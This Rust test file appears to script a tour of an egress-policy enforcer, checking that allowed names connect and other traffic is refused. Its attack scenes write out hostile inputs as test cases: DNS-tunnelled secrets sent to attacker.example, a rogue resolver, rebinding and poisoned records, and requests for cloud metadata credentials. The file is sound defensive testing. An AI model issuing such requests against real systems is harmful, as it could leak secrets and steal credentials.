//! The tour: names, servers, policies, and scene after scene.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use super::scene::{Edit, Expect, Scene, World};

pub(super) const RESOLVER: IpAddr = IpAddr::V4(Ipv4Addr::new(192, 0, 2, 53));
pub(super) const SECOND_RESOLVER: IpAddr = IpAddr::V4(Ipv4Addr::new(192, 0, 2, 54));
pub(super) const HOSTILE_RESOLVER: IpAddr = IpAddr::V4(Ipv4Addr::new(198, 51, 100, 66));

const API: IpAddr = IpAddr::V4(Ipv4Addr::new(203, 0, 113, 10));
const CDN: IpAddr = IpAddr::V4(Ipv4Addr::new(203, 0, 113, 11));
const TRACKER: IpAddr = IpAddr::V4(Ipv4Addr::new(203, 0, 113, 20));
const OTHER: IpAddr = IpAddr::V4(Ipv4Addr::new(203, 0, 113, 21));
const SHORT: IpAddr = IpAddr::V4(Ipv4Addr::new(203, 0, 113, 30));
const ECHO_SERVER: IpAddr = IpAddr::V4(Ipv4Addr::new(203, 0, 113, 40));
const SHARED: IpAddr = IpAddr::V4(Ipv4Addr::new(203, 0, 113, 50));
const REBIND: IpAddr = IpAddr::V4(Ipv4Addr::new(203, 0, 113, 60));
const INTRANET: IpAddr = IpAddr::V4(Ipv4Addr::new(10, 9, 9, 9));
const SMUGGLER: IpAddr = IpAddr::V4(Ipv4Addr::new(203, 0, 113, 70));
const ATTACKER: IpAddr = IpAddr::V4(Ipv4Addr::new(198, 51, 100, 99));
const METADATA: IpAddr = IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254));
const V6: IpAddr = IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 1, 0, 0, 0, 0, 0x10));
const V6_TRACKER: IpAddr = IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 1, 0, 0, 0, 0, 0x20));

/// What the resolvers know.
pub(super) const ZONE: &str = "
    api.example.com      300 A     203.0.113.10
    www.example.com      300 CNAME edge.example.net
    edge.example.net     300 A     203.0.113.11
    tracker.example.org  300 A     203.0.113.20
    short.example.com      1 A     203.0.113.30
    echo.example.com     300 A     203.0.113.40
    one.example.com        1 A     203.0.113.50
    two.example.com      300 A     203.0.113.50
    v6.example.com       300 AAAA  2001:db8:1::10
    later.example.com    300 A     203.0.113.20
    smuggler.example.com 300 A     203.0.113.70
    *.attacker.example   300 A     198.51.100.99
    *.attacker.example   300 TXT   got-it
";

/// What `rebind.example.com` says first, and from then on.
pub(super) const REBINDING: &[&str] = &[
    "rebind.example.com 0 A 203.0.113.60",
    "rebind.example.com 0 A 10.9.9.9",
];

/// What the answer for `smuggler.example.com` carries beside its own record.
pub(super) const SMUGGLED: &str = "api.example.com 300 A 198.51.100.99";

pub(super) const WEB: &[(&str, &str)] = &[
    ("203.0.113.10:80", "api"),
    ("203.0.113.11:80", "edge"),
    ("203.0.113.20:80", "tracker"),
    ("203.0.113.21:80", "other"),
    ("203.0.113.50:80", "one"),
    ("203.0.113.50:8080", "two"),
    ("203.0.113.60:80", "rebind"),
    ("203.0.113.70:80", "smuggler"),
    ("198.51.100.99:80", "attacker"),
    ("10.9.9.9:80", "intranet"),
    ("169.254.169.254:80", "metadata"),
    ("[fd00:ec2::254]:80", "metadata"),
    ("[2001:db8:1::10]:80", "v6"),
    ("[2001:db8:1::20]:80", "v6 tracker"),
];

pub(super) const ECHO: &[&str] = &["203.0.113.30:7", "203.0.113.40:7"];

/// The policy of most scenes.
pub(super) const POLICY: &str = r#"apiVersion: egret.dev/v1alpha1
kind: EgressPolicy
metadata: {name: tour}
spec:
  egress:
    - name: web
      action: Allow
      to:
        - fqdn: ["api.example.com", "www.example.com", "v6.example.com"]
        - fqdn: ["rebind.example.com", "smuggler.example.com"]
      ports: [{protocol: TCP, port: 80}]
    - name: echo
      action: Allow
      to: [{fqdn: ["echo.example.com"]}]
      ports: [{protocol: UDP, port: 7}]
    - name: short-lived
      action: Allow
      to: [{fqdn: ["short.example.com"]}]
      ports: [{protocol: TCP, port: 7}]
    - name: tenant-one
      action: Allow
      to: [{fqdn: ["one.example.com"]}]
      ports: [{protocol: TCP, port: 80}]
    - name: tenant-two
      action: Allow
      to: [{fqdn: ["two.example.com"]}]
      ports: [{protocol: TCP, port: 8080}]
"#;

const LATER: &str = r#"    - name: later
      action: Allow
      to: [{fqdn: ["later.example.com"]}]
      ports: [{protocol: TCP, port: 80}]
"#;

const METADATA_RULE: &str = r"    - name: credentials
      action: Allow
      metadata: [aws-imds]
";

const BROKEN: &str = "apiVersion: egret.dev/v1alpha1\nkind: EgressPolicy\nspec: {egress: [\n";

/// Stands in a step for the file that appears when a broken edit has been noticed.
pub(super) const GATE: &str = "{gate}";

/// The scenes, in the order of the tour.
pub(super) fn scenes() -> Vec<Scene> {
    let mut scenes = names();
    scenes.extend(time());
    scenes.extend(attacks());
    scenes.extend(operations());
    scenes
}

fn names() -> Vec<Scene> {
    vec![
        Scene::new(
            "an allowed name",
            "The look-up opens the address in the kernel before the answer is released.",
            POLICY,
        )
        .act("http api.example.com:80/", Expect::Reads("api "))
        .world(World::Asked("api.example.com"))
        .world(World::Reached(API, 80)),
        Scene::new(
            "an allowed name, another port",
            "A name opens the ports of its rule, and no others.",
            POLICY,
        )
        .act("tcp api.example.com:22 hello", Expect::Fails("EPERM"))
        .world(World::NothingTo(API)),
        Scene::new(
            "an alias",
            "The address at the end of a chain of CNAMEs belongs to the name that was asked.",
            POLICY,
        )
        .act("http www.example.com:80/", Expect::Reads("edge "))
        .world(World::Reached(CDN, 80)),
        Scene::new(
            "a denied name",
            "It does not exist for this command, the answer says why, and nobody is asked.",
            POLICY,
        )
        .act("ask tracker.example.org A", Expect::Fails("NXDOMAIN"))
        .act(
            "lookup tracker.example.org",
            Expect::Fails("Name or service not known"),
        )
        .world(World::NeverAsked("tracker.example.org")),
        Scene::new(
            "an address without a name",
            "Who skips the look-up reaches nothing: the system call itself fails.",
            POLICY,
        )
        .act("http 203.0.113.20:80/", Expect::Fails("EPERM"))
        .act("udp 203.0.113.20:7 hello", Expect::Fails("EPERM"))
        .world(World::NothingTo(TRACKER)),
        Scene::new(
            "IPv6",
            "Both families are held alike, and an IPv4 address in IPv6 clothes is IPv4.",
            POLICY,
        )
        .act("http v6.example.com:80/", Expect::Reads("v6 "))
        .act("http [2001:db8:1::20]:80/", Expect::Fails("EPERM"))
        .act("http [::ffff:203.0.113.20]:80/", Expect::Fails("EPERM"))
        .world(World::Reached(V6, 80))
        .world(World::NothingTo(V6_TRACKER))
        .world(World::NothingTo(TRACKER)),
        Scene::new(
            "UDP",
            "Datagrams are held like connections, connected or not.",
            POLICY,
        )
        .act("udp echo.example.com:7 hello", Expect::Reads("hello"))
        .act(
            "udp-connected echo.example.com:7 again",
            Expect::Reads("again"),
        )
        .act("tcp echo.example.com:7 hello", Expect::Fails("EPERM"))
        .world(World::Reached(ECHO_SERVER, 7)),
    ]
}

fn time() -> Vec<Scene> {
    vec![
        Scene::new(
            "an address that has expired",
            "When the TTL is over the kernel closes the address; what is established lives on.",
            POLICY,
        )
        .waits()
        .act("open a short.example.com:7", Expect::Reads(""))
        .act("say a before", Expect::Reads("before"))
        .act(
            "until failed tcp 203.0.113.30:7 new",
            Expect::Fails("EPERM"),
        )
        .act("say a after", Expect::Reads("after"))
        .world(World::Reached(SHORT, 7)),
        Scene::new(
            "two names, one address",
            "Each opens its own port for its own time: one's expiry leaves the other's port alone.",
            POLICY,
        )
        .waits()
        .act("lookup two.example.com", Expect::Addresses(vec![SHARED]))
        .act("http 203.0.113.50:80/", Expect::Fails("EPERM"))
        .act("http one.example.com:80/", Expect::Reads("one "))
        .act("until failed http 203.0.113.50:80/", Expect::Fails("EPERM"))
        .act("http 203.0.113.50:8080/", Expect::Reads("two ")),
    ]
}

fn attacks() -> Vec<Scene> {
    vec![
        Scene::new(
            "a rebinding attack",
            "A name of the outside that suddenly means an inner address loses that record.",
            POLICY,
        )
        .act("lookup rebind.example.com", Expect::Addresses(vec![REBIND]))
        .act("until failed lookup rebind.example.com", Expect::NoAddress)
        .act("http 10.9.9.9:80/", Expect::Fails("EPERM"))
        .world(World::NothingTo(INTRANET)),
        Scene::new(
            "a poisoned answer",
            "Records that do not belong to the question are not believed.",
            POLICY,
        )
        .act("http smuggler.example.com:80/", Expect::Reads("smuggler "))
        .act("http 198.51.100.99:80/", Expect::Fails("EPERM"))
        .world(World::Reached(SMUGGLER, 80))
        .world(World::NothingTo(ATTACKER)),
        Scene::new(
            "secrets in a question",
            "A name nobody allowed is never forwarded, so that nothing leaves inside it.",
            POLICY,
        )
        .act(
            "lookup c2VjcmV0.attacker.example",
            Expect::Fails("Name or service not known"),
        )
        .act(
            "ask aGVsbG8.attacker.example TXT tcp",
            Expect::Fails("NXDOMAIN"),
        )
        .world(World::NeverAsked("attacker.example")),
        Scene::new(
            "a resolver of the attacker's",
            "DNS to a server that nobody configured is an ordinary flow, and a denied one.",
            POLICY,
        )
        .act(
            "ask c2VjcmV0.attacker.example TXT @198.51.100.66",
            Expect::Fails("EPERM"),
        )
        .act(
            "ask api.example.com A @198.51.100.66 tcp",
            Expect::Fails("EPERM"),
        )
        .world(World::NothingTo(HOSTILE_RESOLVER)),
        Scene::new(
            "the second resolver",
            "Every resolver of the system is answered for, by the same rules.",
            POLICY,
        )
        .act(
            "ask api.example.com A @192.0.2.54",
            Expect::Addresses(vec![API]),
        )
        .act(
            "ask tracker.example.org A @192.0.2.54",
            Expect::Fails("NXDOMAIN"),
        )
        .world(World::NeverAsked("tracker.example.org")),
        Scene::new(
            "the cloud's metadata service",
            "It hands out credentials, so it is closed even where no policy closes anything.",
            "",
        )
        .act("http 203.0.113.20:80/", Expect::Reads("tracker "))
        .act(
            "http 169.254.169.254:80/latest/meta-data/iam",
            Expect::Fails("EPERM"),
        )
        .act(
            "http [fd00:ec2::254]:80/latest/meta-data/iam",
            Expect::Fails("EPERM"),
        )
        .act("http [::ffff:169.254.169.254]:80/", Expect::Fails("EPERM"))
        .world(World::NothingTo(METADATA)),
        Scene::new(
            "the metadata service, opened by name",
            "A preset opens it for those whose policy says so.",
            &with(POLICY, METADATA_RULE),
        )
        .act(
            "http 169.254.169.254:80/latest/meta-data/iam",
            Expect::Reads("metadata "),
        )
        .act("http 203.0.113.20:80/", Expect::Fails("EPERM"))
        .world(World::Reached(METADATA, 80)),
    ]
}

fn operations() -> Vec<Scene> {
    vec![
        Scene::new(
            "a policy that changes",
            "A new rule holds at once, and a rule taken away does too, without a restart.",
            POLICY,
        )
        .act("ask later.example.com A", Expect::Fails("NXDOMAIN"))
        .then(Edit::Good(with(POLICY, LATER)))
        .act(
            "until ok http later.example.com:80/",
            Expect::Reads("tracker "),
        )
        .then(Edit::Good(POLICY.to_owned()))
        .act("until EPERM http 203.0.113.20:80/", Expect::Fails("EPERM")),
        Scene::new(
            "a policy that breaks",
            "An edit that cannot be read changes nothing: the last good rules stay.",
            POLICY,
        )
        .act("http api.example.com:80/", Expect::Reads("api "))
        .then(Edit::Broken(BROKEN))
        .act(format!("file {GATE}"), Expect::Reads(""))
        .act("http api.example.com:80/", Expect::Reads("api "))
        .act("http 203.0.113.21:80/", Expect::Fails("EPERM"))
        .world(World::NothingTo(OTHER)),
    ]
}

fn with(policy: &str, rule: &str) -> String {
    format!("{policy}{rule}")
}
